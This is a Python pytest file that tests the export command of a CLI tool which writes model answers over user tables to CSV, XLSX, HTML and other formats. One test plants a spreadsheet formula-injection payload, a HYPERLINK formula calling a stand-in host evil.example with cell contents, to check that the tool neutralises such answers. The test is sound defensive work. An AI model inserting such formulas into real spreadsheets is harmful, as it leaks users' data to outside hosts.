"""What a journal has kept, as files: by the rules of the files of a run, with the users' own columns."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import anyio
import anyio.to_thread
import openpyxl
import pytest
from _scripted import Scripted
from _shell import FAST, rows, run, run_at

from aiopplx import Session
from aiopplx.cli import run as main
from aiopplx.cli._files import take_long_cells
from aiopplx.emulator import Emulator
from aiopplx.tables import read_file

TEMPLATE = ("--template", "What did {company} announce?")
OURS = [
    *("tag", "question", "answer", "status", "cost", "seconds", "sources", "n_sources"),
    *("model", "finish_reason", "reasoning", "error", "job_id"),
]


def csv_rows(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
    take_long_cells()
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished run of a table of four rows, one of which failed, with its file; made once."""
    place = tmp_path_factory.mktemp("finished")
    table = place / "companies.csv"
    table.write_text('id,company,note\n0001,"ACME, Inc.",=1+1\n0002,Vasa,\n0003,Müller,+46\n0004,Bad,x\n')

    async def make() -> None:
        async with Emulator(duration=0.0, answer_chars=300, failing=lambda question: "Bad" in question) as server:
            done = await run_at(server, "run", str(table), *TEMPLATE, "-o", str(place / "run.csv"), *FAST)
        assert done.returncode == 1, done.stderr

    anyio.run(make)
    return place


def test_exported_table_is_the_table_of_the_run(folder: Path, tmp_path: Path) -> None:
    answers = tmp_path / "again.csv"
    assert main(["export", str(folder / "companies.csv.journal.db"), "-o", str(answers)]) == 0
    before, after = csv_rows(folder / "run.csv"), csv_rows(answers)
    assert list(after[0]) == ["id", "company", "note", *OURS]
    for row in (*before, *after):
        row.pop("seconds")  # a session measures it, and a journal has dates
    assert after == before
    assert [row["note"] for row in after] == ["=1+1", "", "+46", "x"]


def test_export_has_every_form_that_a_run_has(folder: Path, tmp_path: Path) -> None:
    outputs = [tmp_path / f"a.{suffix}" for suffix in ("csv", "tsv", "xlsx", "parquet", "jsonl", "html", "md")]
    words = ["export", str(folder / "companies.csv.journal.db")]
    for output in outputs:
        words += ["-o", str(output)]
    assert main(words) == 0
    first = {output: output.read_bytes() for output in outputs[:2]}
    assert main(words) == 0  # each is known as its own
    for output in outputs[:4]:
        found: list[dict[str, Any]] = [row.cells for row in read_file(output).read() if hasattr(row, "cells")]
        assert [row["id"] for row in found] == ["0001", "0002", "0003", "0004"], output
    assert all(output.read_bytes() == content for output, content in first.items())
    assert [row["meta"]["id"] for row in rows(outputs[4].read_text())] == ["0001", "0002", "0003", "0004"]
    for output in outputs[5:]:
        text = output.read_text()
        assert "<title>companies</title>" in text or text.startswith("# companies\n")
        assert text.count("What did Vasa announce?") >= 1


def test_export_of_one_tenant_has_no_rows_of_others(tmp_path: Path) -> None:
    journal, answers = tmp_path / "run.db", tmp_path / "a.jsonl"

    async def make() -> None:
        async with Scripted() as server, Session("k", base_url=server.url, api="sonar", journal=journal) as session:
            for tenant in ("acme", "umbrella", None):
                assert (await session.ask(f"Why {tenant}?", tag=1, tenant=tenant)).ok

    anyio.run(make)
    for words, tenants in ((["--tenant", "acme"], {"acme"}), ([], {"acme", "umbrella", "None"})):
        assert main(["export", str(journal), "-o", str(answers), "--force", *words]) == 0
        assert {row["question"] for row in rows(answers.read_text())} == {f"Why {tenant}?" for tenant in tenants}


def test_export_goes_on_with_the_file_of_a_run(folder: Path, tmp_path: Path) -> None:
    answers = tmp_path / "run.csv"
    whole = (folder / "run.csv").read_bytes()
    answers.write_bytes(whole[: whole.index(b"0003,")])  # as `kill -9` leaves it
    assert main(["export", str(folder / "companies.csv.journal.db"), "-o", str(answers)]) == 0
    assert [row["id"] for row in csv_rows(answers)] == ["0001", "0002", "0003", "0004"]


NAMED = "Nr;Frage;answer;Kürzel\r\n007;Why?;mine;k1\r\n008;How?;mine;k2\r\n009;Who?;;k3\r\n"


@pytest.mark.parametrize("words", [("--question", "Frage"), ("--question", "Frage", "--tag", "Kürzel", "--keep", "Nr")])
@pytest.mark.parametrize("rest", ["none", "part", "no input"])
def test_exported_table_has_the_form_of_the_run(tmp_path: Path, words: tuple[str, ...], rest: str) -> None:
    """Delimiter, mark, and the names and places of the columns that are the question and the tag."""
    table, answers = tmp_path / "q.csv", tmp_path / "a.csv"
    table.write_text(NAMED, encoding="cp1252", newline="")

    async def make() -> None:
        async with Emulator(duration=0.0, answer_chars=140_000) as server:
            assert (await run_at(server, "run", str(table), *words, "-o", str(answers), *FAST)).returncode == 0

    anyio.run(make)
    whole, before = answers.read_bytes(), csv_rows(answers, ";")
    if rest == "part":  # as `kill -9` leaves it
        answers.write_bytes(whole[: whole.index(b"009;")])
    else:
        answers = tmp_path / "b.csv"
        (table if rest == "no input" else tmp_path / "no.csv").unlink(missing_ok=True)
    assert main(["export", f"{table}.journal.db", "-o", str(answers)]) == 0
    after = csv_rows(answers, ";")
    for row in (*before, *after):
        row.pop("seconds")
    assert after == before
    assert whole.startswith(b"\xef\xbb\xbfNr;")
    assert answers.read_bytes()[:200] == whole[:200]


def test_only_what_the_last_run_asked_is_exported(tmp_path: Path) -> None:
    table = tmp_path / "q.csv"
    table.write_text("company\nACME\nVasa\n")

    async def make() -> None:
        async with Emulator(duration=0.0, answer_chars=300) as server:
            words = ("run", str(table), "-o", str(tmp_path / "a.jsonl"), *FAST)
            await run_at(server, *words, "--template", "A trial about {company}", "--limit", "1")
            await run_at(server, *words, *TEMPLATE)

    anyio.run(make)
    journal = f"{table}.journal.db"
    last, everything = run("export", journal), run("export", journal, "--all")
    assert [row["question"] for row in rows(last.stdout)] == ["What did ACME announce?", "What did Vasa announce?"]
    assert [row["question"] for row in rows(everything.stdout)][2:] == ["A trial about ACME"]
    assert (last.returncode, everything.returncode) == (0, 0)


@pytest.mark.parametrize(("form", "suffix"), [("html", "html"), ("markdown", "md")])
def test_folder_has_an_index_and_a_file_per_answer(
    folder: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str], form: str, suffix: str
) -> None:
    report, journal = tmp_path / "report", str(folder / "companies.csv.journal.db")
    words = ["export", journal, "-o", f"{report}/", "--output-format", form]
    assert main(words) == 0
    pages = [f"0000{number}.{suffix}" for number in range(1, 5)]
    assert sorted(path.name for path in report.iterdir()) == [*pages, f"index.{suffix}"]
    index = (report / f"index.{suffix}").read_text()
    for number, company in enumerate(("ACME", "Vasa", "Müller", "Bad"), 1):
        assert f"0000{number}.{suffix}" in index
        assert f"What did {company}" in (report / pages[number - 1]).read_text()
    (report / f"00009.{suffix}").write_text((report / pages[3]).read_text())  # of a longer run
    assert main(words) == 0  # it knows its own folder
    assert sorted(path.name for path in report.iterdir()) == [*pages, f"index.{suffix}"]
    (report / f"index.{suffix}").unlink()  # as `kill -9` leaves it
    (report / f"00003.{suffix}").rename(report / f"00003.{suffix}.new")
    assert main(words) == 0
    assert sorted(path.name for path in report.iterdir()) == [*pages, f"index.{suffix}"]
    (report / f"index.{suffix}").write_text("mine")
    assert main(words) == 2
    assert (report / f"index.{suffix}").read_text() == "mine"
    assert main([*words[:-1], "csv"]) == 2
    assert "is a folder, which holds a report: --output-format html or markdown" in capfd.readouterr().err


FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.mark.parametrize("suffix", ["csv", "tsv", "xlsx"])
async def test_no_cell_of_a_model_is_a_formula(tmp_path: Path, suffix: str) -> None:
    """In what `run` writes and in what `export` writes; the user's own cells are as they were."""
    table, journal = tmp_path / "q.csv", tmp_path / "q.csv.journal.db"
    table.write_text("company,note\nACME,=1+1\nVasa,-5\nMine,+46 8\nYours,@name\n")
    starts = {"ACME": "", "Vasa": "\0 ", "Mine": "\u200b", "Yours": "\t"}
    outputs = [tmp_path / f"{name}.{suffix}" for name in ("run", "export")]
    async with Scripted() as server:
        server.text = lambda row: next(start for name, start in starts.items() if name in row.question) + FORMULA
        env = {"PERPLEXITY_BASE_URL": server.url, "PERPLEXITY_API_KEY": "any-key-of-a-test"}
        asked = ("run", str(table), *TEMPLATE, "-o", str(outputs[0]), *FAST)
        done = await anyio.to_thread.run_sync(lambda: run(*asked, **env))
    assert done.returncode == 0, done.stderr
    words = ("export", str(journal), "-o", str(outputs[1]))
    assert (await anyio.to_thread.run_sync(lambda: run(*words))).returncode == 0
    for output in outputs:
        if suffix == "xlsx":
            sheet = openpyxl.load_workbook(output)["Answers"]
            assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n"}
            notes = [cell.value for cell in sheet["B"][1:]]
            assert all(str(cell.value).endswith(FORMULA) for cell in sheet["E"][1:])
        else:
            found = csv_rows(output, "," if suffix == "csv" else "\t")
            notes = [row["note"] for row in found]
            assert all(row["answer"].startswith("'") and row["answer"].endswith(FORMULA) for row in found)
        assert notes == ["=1+1", "-5", "+46 8", "@name"]


def test_export_of_nothing_names_no_files(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    journal = tmp_path / "q.csv.journal.db"

    async def make() -> None:
        async with Session(api_key="x", journal=str(journal)):
            pass

    anyio.run(make)
    main(["export", str(journal), "-o", str(tmp_path / "a.csv"), "-o", str(tmp_path / "a.html")])
    said = capfd.readouterr().err
    assert "Nothing was written." in said
    assert "a.csv" not in said
    assert [path.name for path in tmp_path.iterdir() if path.suffix in (".csv", ".html")] == []
